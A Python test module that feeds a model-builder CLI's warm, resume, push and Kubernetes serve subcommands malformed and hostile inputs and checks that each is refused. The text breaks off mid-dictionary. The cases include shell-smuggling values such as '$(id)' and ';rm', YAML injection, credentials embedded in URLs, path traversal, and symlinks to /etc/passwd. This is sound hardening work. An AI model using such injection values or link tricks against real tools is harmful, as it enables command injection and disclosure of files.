"""Round six of the bad-input table: the verbs and flags added since round five, in the table's form
(tests/hardening/cases.py's Case: the real CLI on a private copy of the cuda-ext fixture, its exit code, the words of
its one-line message, no traceback, nothing written, no line over 1,000 characters, within the CPU bound).

- `builder warm`: --strategy, --out, --cache-root, --gpus, --env, --engine-args, --boot-timeout, --port and --tp on
  the process route (the stand-in cell of tests/fixtures/smoke, whose engine is a TEST DOUBLE), captures brought with
  --from-dir (a warm.json that is no record, a tree/ that is empty or holds a link, a FIFO, a socket, a hard link to
  a file outside the capture, or is itself a link), the cut cold boot record --resume reads (cut.json), and --push.
  Every one is refused before the model is made, any engine boots or any image is looked up; an image reference
  here (IMAGE) names no image anywhere;
- `builder serve --kubernetes`: the image JSON's RepoDigests entry and labels, an IMAGE with a malformed digest,
  the Kubernetes options (--compile-cache-claim, --namespace, --name, --replicas, --cpu, --memory, --gpu-family,
  --shm-size), --model's pvc: / hostpath: / volume: forms and -o; a --drafter that looks like JSON is a model
  name, not an attack: it is served as written (exit 0, the launch line's JSON escaping it);
- --tp on serve, smoke, bench and warm: out of range, not a number, against --gpus, an engine without the flag;
- signing keys: the matrix's ledger_public_key naming no PEM public key of a kind builder verifies with (a private
  key, a certificate, RSA, other curves, DER, cut short, over its size, a link, a device, unreadable), and the
  BUILDER_LEDGER_SIGNING_KEY publish signs with (not PEM, encrypted, a public key, another kind, not the pair of the
  matrix's key; its words never echoed).
"""

from __future__ import annotations

import json
import os
import socket
from functools import lru_cache
from pathlib import Path
from typing import Callable

from tests.hardening.cases import (DRY, PUBLISH, REPO, REPRO, SECRET, SMOKE, Case, add_default, directory, fifo,
                                   loop, proc_mem, write)
from tests.helpers import SMOKE_MATRIX

SM = str(SMOKE_MATRIX)
SCELL = "stand-in-engine-1.0.0-cu130-py311-sm80.90"  # the stand-in engine's cell (a TEST DOUBLE of an engine)
CELL = "cuda-ext-1.0.0-cu130-py311-sm80.90"  # the cuda-ext fixture's cell: no strategy, no tensor-parallel flag
IMAGE = "127.0.0.1:9/builder-hardening/no-such:1"  # no daemon or registry has it: every case is refused before
CAPTURE = "w/1.0.0-cu130-py311-sm80.90-warm-mtp2-nogpu"  # where the process route's capture of SCELL goes
H = "a" * 64
ARG = 120 << 10  # under MAX_ARG_STRLEN: what a shell can pass as one argument

WARM = ["warm", SCELL, "--matrix", SM, "--launcher", "process", "--gpus", "none", "--strategy", "MTP2",
        "--cache-root", "{tmp}/root", "--out", "{tmp}/w"]
WARM_IMAGE = ["warm", IMAGE, "--strategy", "MTP2", "--out", "{tmp}/w"]
FROM_DIR = ["warm", IMAGE, "--strategy", "MTP2", "--from-dir", "{tmp}/cap"]
KUBE = ["serve", "{tmp}/i.json", "--strategy", "MTP2", "--kubernetes", "--model", "pvc:models/q"]
SERVE = ["serve", "127.0.0.1:5000/builder-test/cuda-ext:1", "--strategy", "MTP2", "--model", "{tmp}"]
BENCH = ["bench", CELL, "--matrix", "{fx}/matrix.toml", "--out-dir", "{tmp}/o"]


def given(base: list[str], flag: str, value: str) -> list[str]:
    """`base` with `flag`'s value replaced by `value` (added when base has no such flag)."""
    if flag in base:
        i = base.index(flag)
        return [*base[:i + 1], value, *base[i + 2:]]
    return [*base, flag, value]


def without(base: list[str], flag: str) -> list[str]:
    i = base.index(flag)
    return [*base[:i], *base[i + 2:]]


def short(v: str) -> str:
    """A case id's part for a value: printable, at most 24 characters."""
    text = v if len(v) <= 24 else f"{v[:12]}...{len(v)}"
    return repr(text)[1:-1] or "empty"


# -- builder warm on the process route: every flag refused before the model is made or the engine boots ----------
def socket_at(path: Path) -> None:
    s = socket.socket(socket.AF_UNIX)
    s.bind(str(path))
    s.close()


def dangling(path: Path) -> None:
    os.symlink("/nonexistent/builder-hardening", path)


def root_with(*names: str) -> dict:
    """A cache root that already holds what a boot wrote (`names`: files, or directories ending in '/')."""
    out: dict = {"root": directory}
    for name in names:
        parts = name.rstrip("/").split("/")
        for i in range(1, len(parts)):
            out["root/" + "/".join(parts[:i])] = directory
        out[f"root/{name.rstrip('/')}"] = directory if name.endswith("/") else "compiled\n"
    return out


def _warm_cases() -> list[Case]:
    out: list[Case] = []
    add = out.append
    strategies = {"unknown": "nope", "empty": "", "comma": ",", "blank": " ", "two": "MTP2,MTP7", "all": "all",
                  "none": "none", "semicolon": "mtp2;rm", "newline": "MTP2\nMTP7", "dollar": "$(id)", "long": "M" * ARG,
                  "unicode": "MTP２", "glob": "MTP*"}
    for name, v in strategies.items():
        add(Case(f"w6-warm-strategy-{name}", "warm", given(WARM, "--strategy", v), expect=("--strategy",)))
    for name in ("unknown", "empty", "comma", "two", "long"):  # the image route: refused before the image is looked up
        add(Case(f"w6-warm-image-strategy-{name}", "warm", given(WARM_IMAGE, "--strategy", strategies[name]),
                 expect=("--strategy",)))
    add(Case("w6-warm-strategy-not-for-this-version", "warm", given(WARM, "--strategy", "DFlash2"),
             expect=("--strategy DFlash2", "before 2.0")))
    for name, v in {"nan": "nan", "inf": "inf", "negative": "-1", "zero": "0", "word": "soon", "empty": "",
                    "over-a-day": "86401", "minus-zero": "-0", "hex": "0x10"}.items():
        add(Case(f"w6-warm-boot-timeout-{name}", "warm", given(WARM, "--boot-timeout", v), expect=("--boot-timeout",)))
    for name in ("nan", "zero", "word"):
        add(Case(f"w6-warm-image-boot-timeout-{name}", "warm",
                 [*WARM_IMAGE, "--boot-timeout", {"nan": "nan", "zero": "0", "word": "soon"}[name]],
                 expect=("--boot-timeout",)))
    for v in ("two", "0;1", "-1", "", "1000", "0,,1", "auto,0", "0 1", "all;rm", "gpu0", "0x1"):
        add(Case(f"w6-warm-gpus-{short(v)}", "warm", given(WARM, "--gpus", v), expect=("--gpus",)))
    for v in ("A B=1", "=1", "NOEQUALS", "1A=2", "A-B=1", "A\nB=1", "PATH;x=1", "é=1", "A.B=1"):
        add(Case(f"w6-warm-env-{short(v)}", "warm", [*WARM, "--env", v], expect=("--env",)))
    add(Case("w6-warm-env-second-bad", "warm", [*WARM, "--env", "A=1", "--env", "B C=2"], expect=("--env",)))
    for v in ("'--x", '"--x', "--a 'b", "--x \\", "--speculative-config '{\"a\": 1}"):
        add(Case(f"w6-warm-engine-args-{short(v)}", "warm", [*WARM, "--engine-args", v], expect=("--engine-args",)))
    for v in ("0", "65536", "-1", "http", "8000.5"):
        add(Case(f"w6-warm-port-{short(v)}", "warm", [*WARM, "--port", v], expect=("--port",)))
    add(Case("w6-warm-out-under-a-file", "warm", given(WARM, "--out", "{tmp}/afile/w"), files={"afile": "x"},
             expect=("--out", "afile", "is a file")))
    add(Case("w6-warm-out-deep-under-a-file", "warm", given(WARM, "--out", "{tmp}/afile/a/b/c"), files={"afile": "x"},
             expect=("--out", "afile")))
    add(Case("w6-warm-out-is-a-file", "warm", given(WARM, "--out", "{tmp}/afile"), files={"afile": "x"},
             expect=("--out", "is a file")))
    add(Case("w6-warm-out-empty", "warm", given(WARM, "--out", ""), expect=("--out", "empty")))
    add(Case("w6-warm-out-blank", "warm", given(WARM, "--out", "  "), expect=("--out", "empty")))
    add(Case("w6-warm-out-fifo", "warm", given(WARM, "--out", "{tmp}/f"), files={"f": fifo}, expect=("--out", "FIFO")))
    add(Case("w6-warm-out-socket", "warm", given(WARM, "--out", "{tmp}/s"), files={"s": socket_at},
             expect=("--out", "socket")))
    add(Case("w6-warm-out-loop", "warm", given(WARM, "--out", "{tmp}/l"), files={"l": loop}, expect=("--out", "loop")))
    add(Case("w6-warm-image-out-under-a-file", "warm", given(WARM_IMAGE, "--out", "{tmp}/afile/w"), files={"afile": "x"},
             expect=("--out", "afile")))
    # the cache root: a file, under one, a link loop, a FIFO, a socket, a device; one that holds a boot's files
    roots = {"file": ({"root": "x"}, "is a file"), "under-a-file": ({"afile": "x"}, "afile"),
             "loop": ({"root": loop}, "symlink loop"), "fifo": ({"root": fifo}, "FIFO"),
             "socket": ({"root": socket_at}, "socket")}
    for name, (made, says) in roots.items():
        root = "{tmp}/afile/root" if name == "under-a-file" else "{tmp}/root"
        add(Case(f"w6-warm-cache-root-{name}", "warm", given(WARM, "--cache-root", root), files=made,
                 expect=("cache root", says)))
    add(Case("w6-warm-cache-root-dev-null", "warm", given(WARM, "--cache-root", "/dev/null"),
             expect=("cache root", "device")))
    add(Case("w6-warm-cache-root-symlink-to-a-file", "warm", WARM, files={"afile": "x", "root": lambda p: os.symlink("afile", p)},
             expect=("cache root", "is a file")))
    for name, held in {"a-file": ("k.bin",), "a-subdir": ("triton/",), "a-hidden-file": (".lock",),
                       "a-cache": ("triton/ab/k.cubin",)}.items():
        add(Case(f"w6-warm-cache-root-holds-{name}", "warm", WARM, files=root_with(*held),
                 expect=("cache root", "not empty", "--resume")))
    for v in ("", "   "):
        add(Case(f"w6-warm-cache-root-{short(v)}", "warm", given(WARM, "--cache-root", v), expect=("--cache-root", "empty")))
    add(Case("w6-smoke-cache-root-empty", "warm", [*SMOKE, "--launcher", "process", "--cache-root", ""],
             expect=("--cache-root", "empty")))
    add(Case("w6-bench-cache-root-empty", "warm", [*BENCH, "--launcher", "process", "--cache-root", ""],
             expect=("--cache-root", "empty")))
    # flags of the process route given to the image route, and flags that cannot go together
    for flag, extra in (("--cache-root", ["--cache-root", "{tmp}/root"]), ("--image-paths", ["--image-paths"]),
                        ("--resume", ["--resume"])):
        add(Case(f"w6-warm-image{flag}", "warm", [*WARM_IMAGE, *extra], expect=(flag, "only with --launcher process")))
    add(Case("w6-warm-process-from-dir", "warm", [*WARM, "--from-dir", "{tmp}/cap"], files={"cap": capture()},
             expect=("--from-dir", "needs Docker")))
    add(Case("w6-warm-process-on-an-image", "warm", ["warm", IMAGE, "--launcher", "process", "--gpus", "none",
                                                     "--strategy", "MTP2"], expect=("--launcher process", "cell id")))
    add(Case("w6-warm-unknown-cell", "warm", ["warm", "no-such-cell", *WARM[2:]],
             expect=("no-such-cell", "neither a cell")))
    add(Case("w6-warm-cell-without-a-matrix", "warm", ["warm", "stand-in-engine", "--launcher", "process", "--gpus",
                                                       "none", "--strategy", "MTP2"], expect=("needs a matrix",)))
    add(Case("w6-warm-target-newline", "warm", ["warm", "a/b:1\nc", "--strategy", "MTP2"], expect=("IMAGE", "newline")))
    add(Case("w6-warm-target-empty", "warm", ["warm", "", "--strategy", "MTP2"], expect=("IMAGE", "not an image reference")))
    add(Case("w6-warm-cell-without-strategies", "warm", ["warm", CELL, *given(WARM, "--matrix", "{fx}/matrix.toml")[2:]],
             expect=("--strategy MTP2", "cuda-ext has no strategy")))
    add(Case("w6-warm-model-missing", "warm", [*WARM, "--model", "{tmp}/nomodel"], expect=("--model", "config.json")))
    add(Case("w6-warm-model-shape-unknown", "warm", [*WARM, "--model", "shape:99b"], expect=("--model", "shape:27b")))
    add(Case("w6-warm-model-is-a-file", "warm", [*WARM, "--model", "{tmp}/afile"], files={"afile": "x"},
             expect=("--model", "config.json")))
    add(Case("w6-warm-model-without-config", "warm", [*WARM, "--model", "{tmp}/m"], files={"m": directory},
             expect=("--model", "config.json")))
    add(Case("w6-warm-gpus-all-without-gpus", "warm", given(WARM, "--gpus", "all"), env={"PATH": "/nonexistent"},
             expect=("--gpus all",)))
    add(Case("w6-warm-gpus-id-without-gpus", "warm", given(WARM, "--gpus", "3"), env={"PATH": "/nonexistent"},
             expect=("--gpus 3",)))
    return out


# -- builder warm --from-dir: a capture brought from another host, read before the image is looked up ------------
GOOD_FACTS = json.dumps({"cache_root": "/opt/jit-cache", "strategy": "MTP2", "gpu-arch": "sm90",
                         "captured-on": "docker"})


def capture(facts: str | bytes | Callable[[Path], None] | None = GOOD_FACTS,
            tree: Callable[[Path], None] | None | str = "good") -> Callable[[Path], None]:
    """A capture directory: warm.json (text, bytes, a maker, or None: absent) and tree/ (a maker, "good": one compiled
    file, or None: absent)."""

    def make(p: Path) -> None:
        p.mkdir()
        if facts is not None:
            write(p / "warm.json", facts)
        if tree == "good":
            (p / "tree" / "triton").mkdir(parents=True)
            (p / "tree" / "triton" / "k.bin").write_bytes(b"kernel")
        elif tree is not None:
            tree(p / "tree")

    return make


def good_tree_and(extra: Callable[[Path], None]) -> Callable[[Path], None]:
    def make(tree: Path) -> None:
        (tree / "triton").mkdir(parents=True)
        (tree / "triton" / "k.bin").write_bytes(b"kernel")
        extra(tree)

    return make


def hard_link_outside(tree: Path) -> None:
    outside = tree.parent.parent / "host-file"
    outside.write_text("a host file's bytes\n")
    os.link(outside, tree / "triton" / "stolen.bin")


def tree_link_to_a_directory(tree: Path) -> None:
    outside = tree.parent.parent / "outside"
    outside.mkdir()
    (outside / "secret.bin").write_text("a host file's bytes\n")
    os.symlink(outside, tree)


def _from_dir_cases() -> list[Case]:
    out: list[Case] = []
    add = out.append
    # the directory itself
    add(Case("w6-from-dir-missing", "warm-capture", FROM_DIR, expect=("cap", "not a warm capture")))
    add(Case("w6-from-dir-is-a-file", "warm-capture", FROM_DIR, files={"cap": "x"}, expect=("--from-dir", "is a file")))
    add(Case("w6-from-dir-fifo", "warm-capture", FROM_DIR, files={"cap": fifo}, expect=("--from-dir", "FIFO")))
    add(Case("w6-from-dir-dangling", "warm-capture", FROM_DIR, files={"cap": dangling}, expect=("not a warm capture",)))
    add(Case("w6-from-dir-empty", "warm-capture", FROM_DIR, files={"cap": directory}, expect=("not a warm capture", "tree/")))
    add(Case("w6-from-dir-tree-only", "warm-capture", FROM_DIR, files={"cap": capture(facts=None)},
             expect=("not a warm capture", "warm.json")))
    add(Case("w6-from-dir-facts-only", "warm-capture", FROM_DIR, files={"cap": capture(tree=None)},
             expect=("not a warm capture",)))
    add(Case("w6-from-dir-empty-string", "warm-capture", [*FROM_DIR[:-1], ""], expect=("--from-dir", "empty")))
    # warm.json
    facts = {
        "not-json": ("{not json", "not JSON"),
        "empty": ("", "not JSON"),
        "list": ("[1, 2]", "no cache_root"),
        "string": ('"warm"', "no cache_root"),
        "null": ("null", "no cache_root"),
        "no-cache-root": ('{"strategy": "MTP2"}', "no cache_root"),
        "cache-root-int": ('{"cache_root": 5}', "no cache_root"),
        "cache-root-null": ('{"cache_root": null}', "no cache_root"),
        "cache-root-list": ('{"cache_root": ["/opt/jit-cache"]}', "no cache_root"),
        "nested": ("[" * 100_000 + "]" * 100_000, "nested"),
        "nested-object": ('{"a":' * 50_000 + "1" + "}" * 50_000, "nested"),
        "unclosed": ("[" * 100_000, "warm.json"),
        "not-utf8": (b'{"cache_root": "/opt/\xff"}', "UTF-8"),
        "nan-key": ('{"cache_root": NaN}', "no cache_root"),
    }
    for name, (text, says) in facts.items():
        add(Case(f"w6-from-dir-facts-{name}", "warm-capture", FROM_DIR, files={"cap": capture(facts=text)},
                 expect=("warm.json", says)))
    for name, make, says in (("fifo", fifo, "not a warm capture"), ("directory", directory, "not a warm capture"),
                             ("loop", loop, "not a warm capture"), ("dangling", dangling, "not a warm capture"),
                             ("dev-zero", lambda p: os.symlink("/dev/zero", p), "not a warm capture"),
                             ("socket", socket_at, "not a warm capture"),
                             ("proc-mem", proc_mem, "warm.json"),
                             ("huge", lambda p: p.write_text('{"cache_root": "' + "a" * (17 << 20) + '"}'), "warm.json")):
        add(Case(f"w6-from-dir-facts-{name}", "warm-capture", FROM_DIR, files={"cap": capture(facts=make)},
                 expect=(says,)))
    # tree/
    add(Case("w6-from-dir-tree-empty", "warm-capture", FROM_DIR, files={"cap": capture(tree=lambda t: t.mkdir())},
             expect=("tree", "empty")))
    add(Case("w6-from-dir-tree-empty-dirs", "warm-capture", FROM_DIR,
             files={"cap": capture(tree=lambda t: (t / "triton" / "ab").mkdir(parents=True))}, expect=("tree", "empty")))
    add(Case("w6-from-dir-tree-is-a-file", "warm-capture", FROM_DIR,
             files={"cap": capture(tree=lambda t: t.write_text("x"))}, expect=("not a warm capture",)))
    add(Case("w6-from-dir-tree-is-a-fifo", "warm-capture", FROM_DIR, files={"cap": capture(tree=fifo)},
             expect=("not a warm capture",)))
    add(Case("w6-from-dir-tree-is-a-link-to-a-directory", "warm-capture", FROM_DIR,
             files={"cap": capture(tree=tree_link_to_a_directory)}, expect=("tree", "a symlink")))
    add(Case("w6-from-dir-tree-is-a-link-to-root", "warm-capture", FROM_DIR,
             files={"cap": capture(tree=lambda t: os.symlink("/", t))}, expect=("tree", "a symlink")))
    add(Case("w6-from-dir-tree-is-a-dangling-link", "warm-capture", FROM_DIR,
             files={"cap": capture(tree=dangling)}, expect=("tree", "a symlink")))
    inside = {
        "symlink-to-etc-passwd": (lambda t: os.symlink("/etc/passwd", t / "triton" / "p.bin"), "not a regular file"),
        "symlink-relative": (lambda t: os.symlink("k.bin", t / "triton" / "again.bin"), "not a regular file"),
        "dangling-symlink": (lambda t: dangling(t / "triton" / "gone.bin"), "not a regular file"),
        "symlink-to-a-directory": (lambda t: os.symlink("/etc", t / "etc"), "not a regular file"),
        "symlink-loop": (lambda t: loop(t / "triton" / "loop.bin"), "not a regular file"),
        "fifo": (lambda t: fifo(t / "triton" / "f.bin"), "not a regular file"),
        "socket": (lambda t: socket_at(t / "triton" / "s.sock"), "not a regular file"),
        "hard-link-outside": (hard_link_outside, "hard link to a file outside"),
        "deep-fifo": (lambda t: ((t / "a" / "b" / "c").mkdir(parents=True), fifo(t / "a" / "b" / "c" / "f")),
                      "not a regular file"),
    }
    for name, (make, says) in inside.items():
        add(Case(f"w6-from-dir-tree-{name}", "warm-capture", FROM_DIR, files={"cap": capture(tree=good_tree_and(make))},
                 expect=(says,)))
    # with flags that cannot go with it
    add(Case("w6-from-dir-with-resume", "warm-capture", [*FROM_DIR, "--resume", "--launcher", "process"],
             files={"cap": capture()}, expect=("--resume", "give one")))
    add(Case("w6-from-dir-bad-push", "warm-capture", [*FROM_DIR, "--push", "127.0.0.1:5000"], files={"cap": capture()},
             expect=("--registry", "HOST[:PORT]/PATH")))
    return out


# -- builder warm --resume: the cut cold boot's record (cut.json) -----------------------------------------------
def cut_record(**fields) -> Callable[[Path], None]:
    """cut.json with `fields` over a record that fits the run (its cache_root the case's own root); a field given as
    ... is left out."""

    def make(path: Path) -> None:
        record = {"cache_root": str(path.parents[2] / "root"), "seconds": 12.5, "boots": 1, "reason": "boot timeout"}
        record.update(fields)
        path.write_text(json.dumps({k: v for k, v in record.items() if v is not ...}))

    return make


def raw_cut(text: str | bytes) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        path.write_bytes(text if isinstance(text, bytes) else text.encode())

    return make


RESUME = [*WARM, "--resume"]


def resumed(cut) -> dict:
    return {**root_with("triton/k.bin"), "w": directory, CAPTURE: directory, f"{CAPTURE}/cut.json": cut}


def _resume_cases() -> list[Case]:
    out: list[Case] = []
    add = out.append
    add(Case("w6-resume-no-record", "warm-resume", RESUME, files=root_with("triton/k.bin"),
             expect=("--resume", "no cut cold boot recorded")))
    add(Case("w6-resume-no-record-no-root", "warm-resume", RESUME, expect=("--resume", "no cut cold boot recorded")))
    add(Case("w6-resume-no-record-capture-exists", "warm-resume", RESUME,
             files={**root_with("k.bin"), "w": directory, CAPTURE: directory}, expect=("no cut cold boot recorded",)))
    shapes = {
        "not-json": raw_cut("{not json"), "empty": raw_cut(""), "list": raw_cut("[1, 2]"), "string": raw_cut('"cut"'),
        "number": raw_cut("12.5"), "null": raw_cut("null"), "empty-object": raw_cut("{}"),
        "nested": raw_cut("[" * 100_000 + "]" * 100_000), "unclosed": raw_cut("{" * 100_000),
        "not-utf8": raw_cut(b'{"cache_root": "\xff"}'),
        "no-cache-root": cut_record(cache_root=...), "no-seconds": cut_record(seconds=...),
        "no-boots": cut_record(boots=...), "seconds-string": cut_record(seconds="12.5"),
        "seconds-null": cut_record(seconds=None), "seconds-list": cut_record(seconds=[12.5]),
        "seconds-bool": cut_record(seconds=True), "boots-bool": cut_record(boots=True),
        "boots-float": cut_record(boots=1.5), "boots-string": cut_record(boots="1"),
        "cache-root-int": cut_record(cache_root=5), "cache-root-null": cut_record(cache_root=None),
    }
    for name, make in shapes.items():
        add(Case(f"w6-resume-record-{name}", "warm-resume", RESUME, files=resumed(make), expect=("cut.json",)))
    ranges = {
        "seconds-negative": cut_record(seconds=-5), "seconds-huge": cut_record(seconds=1e308),
        "seconds-over-the-bound": cut_record(seconds=10**7 + 1), "boots-negative": cut_record(boots=-1),
        "boots-huge": cut_record(boots=10**12), "seconds-nan": raw_cut('{"cache_root": "%s", "seconds": NaN, "boots": 1}'),
        "seconds-infinity": raw_cut('{"cache_root": "%s", "seconds": Infinity, "boots": 1}'),
        "seconds-minus-infinity": raw_cut('{"cache_root": "%s", "seconds": -Infinity, "boots": 1}'),
        "seconds-1e400": raw_cut('{"cache_root": "%s", "seconds": 1e400, "boots": 1}'),
        "seconds-4000-digits": raw_cut('{"cache_root": "%s", "seconds": ' + "9" * 4000 + ', "boots": 1}'),
        "boots-4000-digits": raw_cut('{"cache_root": "%s", "seconds": 1, "boots": ' + "9" * 4000 + "}"),
    }
    for name, make in ranges.items():
        if name.startswith(("seconds-nan", "seconds-inf", "seconds-minus", "seconds-1e400", "seconds-4000", "boots-4000")):
            make = _with_root(make)
        add(Case(f"w6-resume-record-{name}", "warm-resume", RESUME, files=resumed(make),
                 expect=("--resume", "cut.json")))
    add(Case("w6-resume-record-another-root", "warm-resume", RESUME, files=resumed(cut_record(cache_root="/elsewhere")),
             expect=("--resume", "/elsewhere", "not")))
    add(Case("w6-resume-record-root-relative", "warm-resume", RESUME, files=resumed(cut_record(cache_root="root")),
             expect=("--resume", "caches are under 'root'")))
    add(Case("w6-resume-record-root-long", "warm-resume", RESUME, files=resumed(cut_record(cache_root="/" + "r" * ARG)),
             expect=("--resume", "caches are under")))
    add(Case("w6-resume-record-root-secret", "warm-resume", RESUME,
             files=resumed(cut_record(cache_root=f"https://bob:{SECRET}@host/root")), expect=("--resume",)))
    for name, make in {"fifo": fifo, "directory": directory, "loop": loop, "dev-zero": lambda p: os.symlink("/dev/zero", p),
                       "socket": socket_at, "proc-mem": proc_mem}.items():
        add(Case(f"w6-resume-record-is-a-{name}", "warm-resume", RESUME, files=resumed(make), expect=("cut.json",)))
    add(Case("w6-resume-record-huge", "warm-resume", RESUME,
             files=resumed(raw_cut('{"reason": "' + "a" * (17 << 20) + '"}')), expect=("cut.json",)))
    add(Case("w6-resume-cache-root-a-file", "warm-resume", RESUME,
             files={"root": "x", "w": directory, CAPTURE: directory, f"{CAPTURE}/cut.json": cut_record()},
             expect=("cache root", "is a file")))
    add(Case("w6-resume-with-from-dir", "warm-resume", [*RESUME, "--from-dir", "{tmp}/cap"], files={"cap": capture()},
             expect=("--resume", "--from-dir", "give one")))
    return out


def _with_root(make: Callable[[Path], None]) -> Callable[[Path], None]:
    """raw_cut's text with the case's own root put in for its %s."""

    def fill(path: Path) -> None:
        make(path)
        path.write_text(path.read_text().replace("%s", str(path.parents[2] / "root"), 1))

    return fill


# -- builder warm --push ------------------------------------------------------------------------------------------
def _push_cases() -> list[Case]:
    out: list[Case] = []
    add = out.append
    add(Case("w6-push-with-the-process-launcher", "warm-push", [*WARM, "--push", "127.0.0.1:9/x"],
             expect=("--push", "--launcher process captures only")))
    hosts = {
        "empty": ("", ("--push", "empty")),
        "blank": (" ", ("--push", "empty")),
        "no-path": ("127.0.0.1:5000", ("HOST[:PORT]/PATH",)),
        "port-range": ("127.0.0.1:99999/x", ("port 99999",)),
        "uppercase": ("127.0.0.1:5000/Warm", ("--registry",)),
        "space": ("127.0.0.1:5000/a b", ("--registry",)),
        "newline": ("127.0.0.1:5000/a\nb", ("--registry",)),
        "semicolon": ("127.0.0.1:5000/x;id", ("--registry",)),
        "credentials": (f"bob:{SECRET}@127.0.0.1:5000/x", ("no credentials",)),
        "url-credentials": (f"https://bob:{SECRET}@127.0.0.1:5000/x", ("no credentials",)),
        "user-only": ("bob@127.0.0.1:5000/x", ("--registry",)),
        "query": ("127.0.0.1:5000/x?token=1", ("--registry",)),
        "long": ("127.0.0.1:5000/" + "a" * ARG, ("--registry",)),
        "dollar": ("$(id)/x", ("--registry",)),
        "path-traversal": ("127.0.0.1:5000/../x", ("--registry",)),
    }
    for name, (v, expect) in hosts.items():
        add(Case(f"w6-push-{name}", "warm-push", [*WARM_IMAGE, "--push", v], expect=expect))
    images = [*WARM_IMAGE, "--push", "127.0.0.1:9/x", "--images-json", "{tmp}/images.json"]
    add(Case("w6-push-images-json-under-a-file", "warm-push", given(images, "--images-json", "{tmp}/afile/images.json"),
             files={"afile": "x"}, expect=("--images-json", "afile")))
    add(Case("w6-push-images-json-is-a-dir", "warm-push", images, files={"images.json": directory},
             expect=("--images-json",)))
    add(Case("w6-push-images-json-garbage", "warm-push", images, files={"images.json": "not json"},
             expect=("images.json",)))
    add(Case("w6-push-images-json-nested", "warm-push", images, files={"images.json": "[" * 100_000 + "]" * 100_000},
             expect=("images.json", "nested")))
    add(Case("w6-push-images-json-fifo", "warm-push", images, files={"images.json": fifo}, expect=("images.json",)))
    return out


# -- builder serve --kubernetes --------------------------------------------------------------------------------------
IMAGES = REPO / "tests" / "fixtures" / "host" / "images"
LABELS = json.loads((IMAGES / "vllm-0.33.0-cu130-torch2.14.0-py312-sm80.90.json").read_text())["config"]["Labels"]
DIGEST_REF = f"registry.example.com/ml/vllm@sha256:{H}"


def image_json(digests=(DIGEST_REF,), config=None, **labels) -> str:
    """`docker image inspect` of a published image: RepoDigests (None: left out) and the labels (a label given as
    None is left out)."""
    lab = {k: v for k, v in {**LABELS, **labels}.items() if v is not None}
    doc: dict = {"Config": {"Labels": lab} if config is None else config}
    if digests is not None:
        doc["RepoDigests"] = list(digests)
    return json.dumps([doc])


STAND_IN_LABELS = {"io.builder.engine": "stand-in-engine", "io.builder.engine.version": "1.0.0",
                   "io.builder.strategies": "MTP2,MTP7", "io.builder.archs": "80,90", "io.builder.cuda": "13.0.88",
                   "io.builder.python": "3.11"}


def _kube_image_cases() -> list[Case]:
    out: list[Case] = []
    add = out.append
    ref = "registry.example.com/ml/vllm"
    digests = {  # RepoDigests[0] → what the refusal says
        "not-a-ref": ([f"not a ref@sha256:{H}"], "white space"),
        "newline": ([f"{ref}\n@sha256:{H}"], "white space"),
        "trailing-newline": ([f"{ref}@sha256:{H}\n"], "white space"),
        "yaml-injection": ([f"{ref}@sha256:{H}\nkind: Secret"], "white space"),
        "tab": ([f"{ref}\t@sha256:{H}"], "white space"),
        "leading-space": ([f" {ref}@sha256:{H}"], "white space"),
        "upper-hex": ([f"{ref}@sha256:{'A' * 64}"], "64 lowercase hex"),
        "short-hex": ([f"{ref}@sha256:{'a' * 63}"], "64 lowercase hex"),
        "long-hex": ([f"{ref}@sha256:{'a' * 65}"], "64 lowercase hex"),
        "not-hex": ([f"{ref}@sha256:{'g' * 64}"], "64 lowercase hex"),
        "empty-hex": ([f"{ref}@sha256:"], "64 lowercase hex"),
        "double-digest": ([f"{ref}@sha256:{H}@sha256:{H}"], "64 lowercase hex"),
        "query": ([f"{ref}@sha256:{H}?x=1"], "which no image reference has"),
        "quote": ([f"{ref}@sha256:{H}\"x"], "holds '\"'"),
        "uppercase-name": ([f"Registry.example.com/ML/vllm@sha256:{H}"], "not a repository path"),
        "url": ([f"https://{ref}@sha256:{H}"], "not a registry host"),
        "no-name": ([f"@sha256:{H}"], "not a repository path"),
        "name-too-long": ([f"r.example/{'a' * 300}@sha256:{H}"], "longer than 255"),
        "huge": ([f"r.example/{'a' * ARG}@sha256:{H}"], "longer than 255"),
        "credentials": ([f"bob:{SECRET}@r.example/x@sha256:{H}"], "not a digest"),
        "tag-only": ([f"{ref}:0.33.0"], "no registry digest known"),
        "md5": ([f"{ref}@md5:{'a' * 32}"], "no registry digest known"),
        "number": ([5], "no registry digest known"),
        "null": ([None], "no registry digest known"),
        "empty-list": ([], "no registry digest known"),
        "empty-string": ([""], "no registry digest known"),
        "object": ([{"ref": DIGEST_REF}], "no registry digest known"),
    }
    for name, (value, says) in digests.items():
        add(Case(f"w6-kube-repo-digest-{name}", "serve-kube-image", KUBE, files={"i.json": image_json(value)},
                 expect=("i.json", says)))
    add(Case("w6-kube-repo-digests-a-string", "serve-kube-image", KUBE,
             files={"i.json": json.dumps([{"RepoDigests": DIGEST_REF, "Config": {"Labels": LABELS}}])},
             expect=("no registry digest known",)))
    add(Case("w6-kube-repo-digests-missing", "serve-kube-image", KUBE, files={"i.json": image_json(None)},
             expect=("no registry digest known",)))
    labels = {  # the labels an image JSON carries, missing or forged → what the refusal says
        "no-engine": ({"io.builder.engine": None}, "not an image builder made"),
        "no-engine-version": ({"io.builder.engine.version": None}, "not an image builder made"),
        "engine-empty": ({"io.builder.engine": ""}, "not an image builder made"),
        "engine-unknown": ({"io.builder.engine": "nope"}, "nope"),
        "engine-newline": ({"io.builder.engine": "vllm\nkind: Secret"}, "vllm"),
        "engine-long": ({"io.builder.engine": "v" * ARG}, "unknown package"),
        "version-unknown": ({"io.builder.engine.version": "0.0.1"}, "0.0.1"),
        "version-word": ({"io.builder.engine.version": "latest"}, "latest"),
        "no-strategies": ({"io.builder.strategies": None}, "no strategy"),
        "strategies-other": ({"io.builder.strategies": "MTP7"}, "built and smoke-tested for MTP7"),
        "strategies-forged": ({"io.builder.strategies": "MTP2;rm"}, "built and smoke-tested for"),
        "strategies-lowercase": ({"io.builder.strategies": "mtp2"}, "built and smoke-tested for"),
        "boot-nan": ({"io.builder.boot-seconds": "nan"}, "io.builder.boot-seconds"),
        "boot-negative": ({"io.builder.boot-seconds": "-5"}, "io.builder.boot-seconds"),
        "boot-zero": ({"io.builder.boot-seconds": "0"}, "io.builder.boot-seconds"),
        "boot-inf": ({"io.builder.boot-seconds": "inf"}, "io.builder.boot-seconds"),
        "boot-huge": ({"io.builder.boot-seconds": "1e308"}, "io.builder.boot-seconds"),
